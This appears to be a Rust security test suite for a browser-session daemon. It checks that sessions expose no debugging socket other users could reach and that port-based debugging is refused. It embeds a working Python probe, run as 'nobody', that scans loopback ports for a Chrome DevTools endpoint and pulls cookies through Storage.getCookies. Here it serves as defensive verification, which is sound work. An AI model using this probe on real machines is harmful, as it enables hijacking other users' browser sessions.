//! A session's browser listens on no socket another user could connect to: launched over
//! `--remote-debugging-pipe`, no process of the session (the browser and every process it
//! starts) has a listening TCP socket (IPv4 or IPv6) or an abstract Unix socket, and its only
//! listening Unix socket (Chrome's process-singleton socket, which Chromium 156 creates in
//! every mode, headless included, with no flag to turn it off) lies inside the session's 0700
//! directory, where `nobody`'s connect is refused (EACCES). Checked from the kernel's socket tables, not from Chrome's word, sampled
//! continuously for the whole life of the session (start-up with a profile's load, pages, a
//! checkpoint, the stop); and from the attacker's side: a process running as `nobody` that tries every listening
//! loopback port for a DevTools endpoint finds none of the session (and does find a Chrome
//! started with a port, so the probe is able to find one). A browser that cannot do pipe mode
//! is refused with `browser_error` unless `[browser] allow_port_fallback` is set, and
//! `session.show` says which transport a session uses.

use std::collections::HashSet;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use serde_json::json;

use crate::harness::{Env, wait_for};
use crate::sessions::support::{
    Cdp, Events, TestServer, UserChrome, chrome, ready, sessions_dir, start_daemon,
};

/// `pid` and every process descended from it.
fn process_tree(pid: u32) -> Vec<u32> {
    let parents: Vec<(u32, u32)> = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .filter_map(|p| {
            let stat = std::fs::read_to_string(format!("/proc/{p}/stat")).ok()?;
            // pid (comm) state ppid ...: comm may hold spaces and parentheses.
            let ppid = stat
                .rsplit(')')
                .next()?
                .split_whitespace()
                .nth(1)?
                .parse()
                .ok()?;
            Some((p, ppid))
        })
        .collect();
    let mut tree = vec![pid];
    let mut i = 0;
    while i < tree.len() {
        let parent = tree[i];
        tree.extend(
            parents
                .iter()
                .filter(|(_, pp)| *pp == parent)
                .map(|(p, _)| *p),
        );
        i += 1;
    }
    tree
}

/// Socket inodes the processes hold open.
fn socket_inodes(pids: &[u32]) -> HashSet<u64> {
    let mut out = HashSet::new();
    for pid in pids {
        let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
            continue;
        };
        for fd in fds.flatten() {
            if let Ok(target) = std::fs::read_link(fd.path()) {
                let t = target.to_string_lossy();
                if let Some(n) = t.strip_prefix("socket:[").and_then(|r| r.strip_suffix(']')) {
                    out.insert(n.parse().unwrap());
                }
            }
        }
    }
    out
}

/// A listening socket found in the kernel's tables.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Listener {
    /// TCP or TCP6: the table, the local address as the table writes it, and the port.
    Tcp(&'static str, String, u16),
    /// A Unix socket bound to a path (`@…` for the abstract namespace, empty when unbound).
    Unix(String),
}

/// Every listening socket whose inode is in `inodes`.
fn listening(inodes: &HashSet<u64>) -> Vec<Listener> {
    let mut out = Vec::new();
    for table in ["/proc/net/tcp", "/proc/net/tcp6"] {
        let text = std::fs::read_to_string(table).unwrap_or_default();
        for line in text.lines().skip(1) {
            let f: Vec<&str> = line.split_whitespace().collect();
            // sl local rem st tx:rx tr:when retrnsmt uid timeout inode; 0A = LISTEN.
            if f.len() < 10 || f[3] != "0A" || !f[9].parse().is_ok_and(|i| inodes.contains(&i)) {
                continue;
            }
            let (addr, port) = f[1].split_once(':').unwrap();
            out.push(Listener::Tcp(
                table,
                addr.to_owned(),
                u16::from_str_radix(port, 16).unwrap(),
            ));
        }
    }
    let text = std::fs::read_to_string("/proc/net/unix").unwrap_or_default();
    for line in text.lines().skip(1) {
        let f: Vec<&str> = line.split_whitespace().collect();
        // Num RefCount Protocol Flags Type St Inode [Path]; flag 0x10000 = accepting.
        if f.len() < 7 || !f[6].parse().is_ok_and(|i| inodes.contains(&i)) {
            continue;
        }
        let flags = u32::from_str_radix(f[3], 16).unwrap_or(0);
        if flags & 0x10000 != 0 {
            out.push(Listener::Unix(f.get(7).unwrap_or(&"").to_string()));
        }
    }
    out
}

/// What [`sample`] saw.
#[derive(Debug, Default)]
struct Sampled {
    /// Samples taken while the daemon had child processes (the session's).
    samples: u64,
    /// Of those, samples taken before `session.start` answered.
    during_start: u64,
    /// Every distinct listening socket seen in any sample.
    listeners: Vec<Listener>,
}

/// Samples, until `stop` is set, the listening sockets of every process the daemon `daemon`
/// started (the browser and everything it starts: the daemon's only children). The daemon
/// process itself is left out: it listens on purpose (the relay on 127.0.0.1, which stays
/// token-guarded, and for a moment the engine's one-time endpoint), and those are the
/// daemon's sockets, not the browser's; the test checks the relay is found separately.
fn sample(
    daemon: u32,
    started: Arc<AtomicBool>,
    stop: Arc<AtomicBool>,
) -> std::thread::JoinHandle<Sampled> {
    std::thread::spawn(move || {
        let mut out = Sampled::default();
        loop {
            // Read before sampling, so that the last sample comes after the stop.
            let last = stop.load(Ordering::SeqCst);
            let before_start = !started.load(Ordering::SeqCst);
            let tree: Vec<u32> = process_tree(daemon)
                .into_iter()
                .filter(|p| *p != daemon)
                .collect();
            if !tree.is_empty() {
                out.samples += 1;
                out.during_start += u64::from(before_start);
            }
            for l in listening(&socket_inodes(&tree)) {
                if !out.listeners.contains(&l) {
                    out.listeners.push(l);
                }
            }
            if last {
                return out;
            }
            // The sampling interval, not a wait for anything: a short pause keeps the sampler
            // from taking a whole core from the browser it watches.
            std::thread::sleep(Duration::from_millis(2));
        }
    })
}

#[test]
fn a_sessions_browser_listens_on_no_socket_another_user_could_reach() {
    let env = Env::new();
    let (d, mut c) = ready(&env);
    let mut ev = Events::subscribe(&d);
    let site = TestServer::start();
    c.ok("profile.create", json!({"name": "acct"}));
    // Sampled for the whole life of the session: from before `session.start` is sent, through
    // the load of the profile, start-up, pages, a checkpoint, until `session.stop` answered.
    let (started, stop) = (
        Arc::new(AtomicBool::new(false)),
        Arc::new(AtomicBool::new(false)),
    );
    let sampler = sample(d.pid() as u32, started.clone(), stop.clone());
    let s = c.ok(
        "session.start",
        json!({"profile": "acct", "save": true, "start_url": site.url("/")}),
    )["session"]
        .clone();
    started.store(true, Ordering::SeqCst);
    let id = s["session_id"].as_str().unwrap().to_owned();
    assert_eq!(s["transport"], "pipe", "{s}");
    let shown = c.ok("session.show", json!({"session_id": id}))["session"].clone();
    assert_eq!(shown["transport"], "pipe");
    let pid = s["pid"].as_u64().unwrap() as u32;
    let session_dir = sessions_dir(&env).join(&id);
    assert!(
        !session_dir.join("chrome/DevToolsActivePort").exists(),
        "Chrome opened a debugging port"
    );

    // Pages running (renderers, a network service, a cross-site frame) through the relay.
    let mut cdp = Cdp::connect(s["cdp_ws_url"].as_str().unwrap()).unwrap();
    cdp.open_loaded(&site.url("/"));
    let target = cdp.open(&site.url("/login"));
    let second = cdp.attach(&target);
    assert_eq!(cdp.eval(&second, "1 + 1"), json!(2));
    // A checkpoint: a localStorage write is captured soon.
    cdp.eval(&second, "localStorage.setItem('k', 'v'), 1");
    let saved = ev.next("session.saved", &id);
    assert_eq!(saved["snapshot"]["kind"], "checkpoint", "{saved}");

    let tree = wait_for("the session's renderers", Duration::from_secs(20), || {
        let t = process_tree(pid);
        (t.len() >= 3).then_some(t)
    });
    let now = listening(&socket_inodes(&tree));
    // Reaching a Unix socket needs search permission on every directory above it: the
    // session directory is the owner's alone, and `nobody`'s connect is refused (EACCES).
    let mode = std::fs::metadata(&session_dir)
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o700, "{}", session_dir.display());
    for l in &now {
        let Listener::Unix(path) = l else { continue };
        let out = Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c"])
            .arg("import socket,sys\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect(sys.argv[1]); print('connected')\nexcept OSError as e: print('refused', e.errno)")
            .arg(path)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert_eq!(
            text.trim(),
            "refused 13",
            "nobody's connect to {path}: {text}"
        );
    }

    // The scan sees listeners: it finds the daemon's relay on 127.0.0.1.
    let relay_port: u16 = s["cdp_ws_url"].as_str().unwrap()["ws://127.0.0.1:".len()..]
        .split('/')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let daemon = listening(&socket_inodes(&[d.pid() as u32]));
    assert!(
        daemon.contains(&Listener::Tcp(
            "/proc/net/tcp",
            "0100007F".into(),
            relay_port
        )),
        "the relay's listener is found: {daemon:?}"
    );

    drop(cdp);
    c.ok("session.stop", json!({"session_id": id}));
    stop.store(true, Ordering::SeqCst);
    let sampled = sampler.join().unwrap();
    eprintln!(
        "socket sampler: {} samples of the session's processes, {} before session.start answered",
        sampled.samples, sampled.during_start
    );
    // The sampler watched start-up: the browser's processes were there, many times over,
    // before `session.start` answered, and it saw what a single look sees.
    assert!(
        sampled.during_start >= 3 && sampled.samples > sampled.during_start,
        "too few samples: {sampled:?}"
    );
    assert!(
        now.iter().all(|l| sampled.listeners.contains(l)),
        "{now:?} vs {sampled:?}"
    );
    let sockets = sampled.listeners;
    let session_dir_text = session_dir.to_string_lossy().into_owned();
    for l in &sockets {
        match l {
            Listener::Tcp(table, addr, port) => {
                panic!("a session process listened on {table} {addr}:{port}: {sockets:?}")
            }
            Listener::Unix(path) => assert!(
                path.starts_with(&session_dir_text),
                "a session process listened on a Unix socket outside its private directory: {path:?}"
            ),
        }
    }
}

/// The attack, as a script that runs as `nobody`: for every listening TCP port on the
/// machine, ask `/json/version` for a browser websocket, connect to it, run
/// `Storage.getCookies`, and print `FOUND` if any answer holds the marker (argv[1]). A plain
/// websocket client in a few lines: Python's standard library has none.
const PROBE: &str = r#"
import base64, json, os, socket, struct, sys
marker = sys.argv[1].encode()
def recv_exact(s, n):
    b = b''
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c: raise OSError('closed')
        b += c
    return b
def cookies(port, path):
    s = socket.create_connection(('127.0.0.1', port), timeout=5)
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(('GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
               'Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n' % (path, port, key)).encode())
    head = b''
    while b'\r\n\r\n' not in head:
        head += recv_exact(s, 1)
    if b' 101 ' not in head.split(b'\r\n')[0]: return b''
    msg = json.dumps({'id': 1, 'method': 'Storage.getCookies'}).encode()
    mask = os.urandom(4)
    s.sendall(bytes([0x81, 0x80 | 126]) + struct.pack('>H', len(msg)) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(msg)))
    out = b''
    while True:
        h = recv_exact(s, 2)
        n = h[1] & 0x7f
        if n == 126: n = struct.unpack('>H', recv_exact(s, 2))[0]
        elif n == 127: n = struct.unpack('>Q', recv_exact(s, 8))[0]
        data = recv_exact(s, n)
        out += data
        if h[0] & 0x80 and b'"id":1' in out: return out
for table in ('/proc/net/tcp', '/proc/net/tcp6'):
    for line in open(table).read().splitlines()[1:]:
        f = line.split()
        if f[3] != '0A': continue
        port = int(f[1].split(':')[1], 16)
        try:
            s = socket.create_connection(('127.0.0.1', port), timeout=2)
            s.sendall(b'GET /json/version HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n')
            s.settimeout(2)
            data = s.recv(65536)
            i = data.find(b'{')
            if b'webSocketDebuggerUrl' not in data or i < 0: continue
            url = json.loads(data[i:data.rfind(b'}') + 1])['webSocketDebuggerUrl']
            path = '/' + url.split('/', 3)[3]
            if marker in cookies(port, path):
                print('FOUND', port)
        except (OSError, ValueError, KeyError, IndexError):
            pass
"#;

/// Runs [`PROBE`] as `nobody`; the ports whose browser held `marker`.
fn cookies_nobody_can_read(marker: &str) -> Vec<String> {
    let out = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "/usr/bin/python3",
            "-c",
        ])
        .arg(PROBE)
        .arg(marker)
        .output()
        .expect("run setpriv");
    assert!(
        out.status.success(),
        "probe failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_owned)
        .collect()
}

/// A cookie whose value only this test knows.
fn marker_cookie(site: &TestServer, marker: &str) -> serde_json::Value {
    json!([{"name": "probe", "value": marker, "url": site.url("/")}])
}

#[test]
fn nobody_cannot_read_a_sessions_cookies() {
    let site = TestServer::start();
    let marker = format!("m{:x}", std::process::id() as u64 * 7919 + 17);
    // A browser started the old way, with a port: the attack works there, so the probe is able.
    let user = UserChrome::launch();
    let mut cdp = Cdp::connect(&user.ws).unwrap();
    cdp.set_cookies(marker_cookie(&site, &marker));
    let found = cookies_nobody_can_read(&marker);
    assert!(
        found.contains(&format!("FOUND {}", user.port)),
        "nobody reads the cookies of a Chrome with a debugging port: {found:?}"
    );
    drop(cdp);
    drop(user);
    // The same cookie in a session: nobody finds it.
    let env = Env::new();
    let (_d, mut c) = ready(&env);
    let s = c.ok("session.start", json!({}))["session"].clone();
    let mut cdp = Cdp::connect(s["cdp_ws_url"].as_str().unwrap()).unwrap();
    cdp.set_cookies(marker_cookie(&site, &marker));
    assert!(cdp.cookies().iter().any(|c| c["value"] == marker.as_str()));
    let found = cookies_nobody_can_read(&marker);
    assert!(
        found.is_empty(),
        "nobody read the session's cookies: {found:?}"
    );
    drop(cdp);
    let id = s["session_id"].as_str().unwrap();
    c.ok("session.stop", json!({"session_id": id}));
}

/// A Chromium that cannot do pipe mode: a wrapper that closes fds 3 and 4 before starting it.
fn pipeless_chromium(dir: &Path) -> std::path::PathBuf {
    let path = dir.join("chromium-without-pipe");
    std::fs::write(
        &path,
        format!(
            "#!/bin/sh\nexec 3<&- 4>&-\nexec '{}' \"$@\"\n",
            chrome().display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

#[test]
fn a_browser_without_pipe_mode_is_refused_unless_the_port_fallback_is_allowed() {
    let tmp = tempfile::tempdir().unwrap();
    let wrapper = pipeless_chromium(tmp.path());
    let wrapper = wrapper.to_str().unwrap();

    let env = Env::new();
    let d = start_daemon(&env, &[("PVAULT_CHROME", wrapper)]);
    let mut c = d.session();
    c.init();
    let v = c.call("session.start", json!({}));
    assert_eq!(v["error"]["code"], "browser_error", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("--remote-debugging-pipe") && msg.contains("allow_port_fallback"),
        "the error says what failed and what to do: {msg}"
    );
    assert_eq!(c.ok("session.list", json!({}))["sessions"], json!([]));
    assert!(c.status().is_object(), "the daemon keeps serving");
    drop(d);

    let env = Env::new();
    std::fs::create_dir_all(&env.home).unwrap();
    std::fs::set_permissions(&env.home, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(
        env.home.join("config.toml"),
        "[browser]\nallow_port_fallback = true\n",
    )
    .unwrap();
    let d = start_daemon(&env, &[("PVAULT_CHROME", wrapper)]);
    let mut c = d.session();
    c.init();
    let s = c.ok("session.start", json!({}))["session"].clone();
    assert_eq!(s["transport"], "port", "{s}");
    let mut cdp = Cdp::connect(s["cdp_ws_url"].as_str().unwrap()).unwrap();
    assert!(cdp.call("Browser.getVersion", json!({})).is_ok());
    drop(cdp);
    let id = s["session_id"].as_str().unwrap();
    c.ok("session.stop", json!({"session_id": id}));
}

#[test]
fn debugging_flags_in_extra_flags_are_refused() {
    let env = Env::new();
    std::fs::create_dir_all(&env.home).unwrap();
    std::fs::set_permissions(&env.home, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(
        env.home.join("config.toml"),
        "[browser]\nextra_flags = [\"--remote-debugging-port=9222\"]\n",
    )
    .unwrap();
    let (_d, mut c) = ready(&env);
    let v = c.call("session.start", json!({}));
    assert_eq!(v["error"]["code"], "invalid_argument", "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("--remote-debugging-port"),
        "{v}"
    );
}
